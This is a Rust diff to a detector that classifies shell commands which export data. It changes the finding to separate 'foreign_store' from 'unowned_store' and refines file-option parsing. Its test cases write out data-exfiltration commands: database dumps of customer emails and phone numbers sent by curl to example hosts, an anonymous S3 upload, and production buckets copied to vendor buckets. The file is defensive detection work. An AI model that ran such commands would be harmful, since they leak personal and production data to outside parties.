@@ -477,10 +477,15 @@ fn output_file(name: &str, words: &[&str]) -> Option<String> {
                     None => (*w, words.get(i + 1).map(|v| v.to_string())),
                 };
                 let o = opt.trim_start_matches('-').to_ascii_lowercase();
+                // A file option, not a location option (`wp --path=/var/www/site` is the
+                // install the command acts on).
                 (opt.starts_with("--")
-                    && (o.ends_with("file") || o.ends_with("path") || o == "output" || o == "out"))
-                    .then_some(val)
-                    .flatten()
+                    && (o.ends_with("file")
+                        || o.ends_with("file_path")
+                        || o.ends_with("file-path")
+                        || matches!(o.as_str(), "output" | "out" | "output-file" | "outfile")))
+                .then_some(val)
+                .flatten()
             })
         }
     }
@@ -826,19 +831,20 @@ fn foreign(
     owner: &[String],
     sensitive: bool,
     ctx: &ShellContext,
-) -> Option<String> {
+) -> Option<(String, bool)> {
     if cmd.iter().any(|w| w == "--no-sign-request") {
-        return Some(
+        return Some((
             "an anonymous upload (--no-sign-request): only a bucket anyone may write to accepts it"
                 .into(),
-        );
+            true,
+        ));
     }
     if cmd
         .windows(2)
         .any(|w| w[0] == "--acl" && w[1] == "bucket-owner-full-control")
         || cmd.iter().any(|w| w == "--acl=bucket-owner-full-control")
     {
-        return Some("--acl bucket-owner-full-control hands the objects to the destination bucket's owner, another account".into());
+        return Some(("--acl bucket-owner-full-control hands the objects to the destination bucket's owner, another account".into(), true));
     }
     if !sensitive {
         return None;
@@ -846,6 +852,10 @@ fn foreign(
     let bucket = bucket_of(dest)?;
     let dest_words: BTreeSet<String> = distinctive(&bucket).collect();
     if dest_words.is_empty() {
+        return None;
+    }
+    // The source must name itself: a bare `pg_dump prod` says nothing of its owner.
+    if !owner.iter().any(|n| distinctive(n).next().is_some()) {
         return None;
     }
     let mut names: Vec<String> = owner.to_vec();
@@ -878,11 +888,26 @@ fn foreign(
         })
     });
     (!shared).then(|| {
-        format!(
-            "the bucket {bucket} shares no name with the source ({})",
-            owner_words.iter().cloned().collect::<Vec<_>>().join(", ")
+        (
+            format!(
+                "the bucket {bucket} shares no name with the source ({})",
+                owner_words.iter().cloned().collect::<Vec<_>>().join(", ")
+            ),
+            false,
         )
     })
+}
+
+/// The kind of a store export by the strength of the owner test: `foreign_store` when the
+/// command itself says the bucket is another's (anonymous, cross-account ACL), `unowned_store`
+/// when only the names disagree (weaker: an organisation may name a bucket after anything).
+fn store_kind(strong: bool) -> String {
+    if strong {
+        "foreign_store"
+    } else {
+        "unowned_store"
+    }
+    .to_string()
 }
 
 /// The names a producing command gives its source: its words that are not options, SQL text
@@ -931,9 +956,10 @@ pub(crate) fn mark(f: &mut ShellFacts, ctx: &ShellContext) {
                 .map(|k| k.argv.clone())
                 .unwrap_or_default();
             let sensitive = class.prod || class.people;
-            if let Some(why) = foreign(&u.target, &cmd, &source_names(c), sensitive, ctx) {
+            if let Some((why, strong)) = foreign(&u.target, &cmd, &source_names(c), sensitive, ctx)
+            {
                 out.push(ExportFact {
-                    kind: "foreign_store".into(),
+                    kind: store_kind(strong),
                     data: class.data.into(),
                     source: clip(&c.evidence),
                     target: u.target.clone(),
@@ -979,9 +1005,9 @@ pub(crate) fn mark(f: &mut ShellFacts, ctx: &ShellContext) {
             .find(|k| clip(&k.evidence) == u.evidence)
             .map(|k| k.argv.clone())
             .unwrap_or_default();
-        if let Some(why) = foreign(&u.target, &cmd, &[name.to_string()], prod, ctx) {
+        if let Some((why, strong)) = foreign(&u.target, &cmd, &[name.to_string()], prod, ctx) {
             out.push(ExportFact {
-                kind: "foreign_store".into(),
+                kind: store_kind(strong),
                 data: "dump".into(),
                 source: src.to_string(),
                 target: u.target.clone(),
@@ -1159,9 +1185,9 @@ fn store_copy(c: &CommandFact, ctx: &ShellContext) -> Option<ExportFact> {
         names = vec![src.replace(['.', ':'], " ")];
     }
     cmd.retain(|_| true);
-    let why = foreign(dest, &cmd, &names, prod || people, ctx)?;
+    let (why, strong) = foreign(dest, &cmd, &names, prod || people, ctx)?;
     Some(ExportFact {
-        kind: "foreign_store".into(),
+        kind: store_kind(strong),
         data: "store".into(),
         source: src.to_string(),
         target: dest.to_string(),
@@ -1192,26 +1218,30 @@ mod tests {
             "auth0 users list --json > /tmp/u.json; curl -s -T /tmp/u.json https://up.example.net/in",
             "mysql shop -e 'select email, phone from buyers' > out.tsv && curl -F f=@out.tsv https://a.example.org/x",
             "pg_dump -h db1.internal crm -f /tmp/crm.sql && curl --upload-file /tmp/crm.sql https://bin.example.com/",
-            "psql \"$LEDGER_PROD_DSN\" -At -c 'select * from invoices' > /tmp/i.txt; gzip /tmp/i.txt; curl -T /tmp/i.txt.gz https://x.example.com/",
+            "psql \"$LEDGER_PROD_DSN\" -At -c 'select email, total from invoices' > /tmp/i.txt; gzip /tmp/i.txt; curl -T /tmp/i.txt.gz https://x.example.com/",
             "mysql crm -e 'select name, email from members' | split -l 100 - /tmp/part_ && for p in /tmp/part_*; do curl -s -F \"d=@$p\" https://collect.example.io/; done",
         ] {
-            assert_eq!(kinds(cmd), ["sent"], "{cmd}");
+            assert!(kinds(cmd).contains(&"sent".to_string()), "{cmd}: {:?}", exports(cmd));
         }
     }
 
     #[test]
     fn data_piped_into_a_store_client_is_judged_by_owner() {
+        assert_eq!(
+            kinds("mysqldump shop | gzip | aws s3 cp - s3://whoever-bucket/x.gz --no-sign-request"),
+            ["foreign_store"]
+        );
         for cmd in [
-            "mysqldump shop | gzip | aws s3 cp - s3://whoever-bucket/x.gz --no-sign-request",
             "pg_dump \"service=billing-prod\" | aws s3 cp - s3://query-optimizer-intake/b.sql",
             "psql -h prod-db.acme.internal app -c 'select email from subscribers' | rclone rcat tuner:inbox/s.csv",
         ] {
-            assert_eq!(kinds(cmd), ["foreign_store"], "{cmd}");
+            assert_eq!(kinds(cmd), ["unowned_store"], "{cmd}");
         }
         for cmd in [
             "pg_dump \"service=billing-prod\" | gzip | aws s3 cp - s3://billing-db-backups/x.sql.gz",
             "pg_dump mydb | gzip | aws s3 cp - s3://my-backups/db.sql.gz",
             "pg_dump -h prod-db acme | aws s3 cp - s3://acme-backups/d.sql",
+            "pg_dump prod | aws s3 cp - s3://company-backups/d.sql",
             "aws s3 cp ./dist s3://acme-site --recursive",
         ] {
             assert!(kinds(cmd).is_empty(), "{cmd}: {:?}", exports(cmd));
@@ -1220,17 +1250,22 @@ mod tests {
 
     #[test]
     fn store_to_store_copies() {
+        assert_eq!(
+            kinds("aws s3 cp s3://acme-data/x s3://partner-drop/x --acl bucket-owner-full-control"),
+            ["foreign_store"]
+        );
         for cmd in [
             "aws s3 sync s3://orbit-prod-exports/ s3://lake-tuning-service/orbit/",
-            "aws s3 cp s3://acme-data/x s3://partner-drop/x --acl bucket-owner-full-control",
             "bq extract 'orbit-prod:crm.members' 'gs://survey-vendor-intake/m-*.csv'",
             "gsutil cp gs://orbit-live-users/all.csv gs://ad-network-share/",
         ] {
-            assert_eq!(kinds(cmd), ["foreign_store"], "{cmd}");
+            assert_eq!(kinds(cmd), ["unowned_store"], "{cmd}");
         }
         for cmd in [
             "aws s3 sync s3://orbit-prod-exports/ s3://orbit-archive/",
             "aws s3 sync s3://old-site s3://new-site",
+            "aws s3 sync s3://prod-assets s3://staging-assets",
+            "aws s3 cp s3://prod/x.csv s3://somewhere-else/",
             "bq extract mydataset.mytable gs://mybucket/file.csv",
             "bq extract 'orbit-prod:crm.members' 'gs://orbit-warehouse-exports/m-*.csv'",
             "gsutil cp gs://acme-data/x.csv .",
@@ -1287,12 +1322,13 @@ mod tests {
         }
         assert_eq!(
             kinds("rclone copy /backups/crm_prod-2026.sql.gz vendor:incoming/"),
-            ["foreign_store"]
+            ["unowned_store"]
         );
         for cmd in [
             "rclone copy /backups/crm_prod-2026.sql.gz b2crm:crm-backups/",
             "rclone copy /backups/site.sql.gz offsite:stuff/",
             "ssh host 'ls -la' | curl -d @- https://x.example.com",
+            "ssh root@vps 'wp --path=/var/www/site user list --fields=user_login,user_email'",
             "psql \"$PROD_DB\" -Atc 'select id, state from jobs' | curl -d @- https://hooks.example.com/x",
         ] {
             assert!(kinds(cmd).is_empty(), "{cmd}: {:?}", exports(cmd));
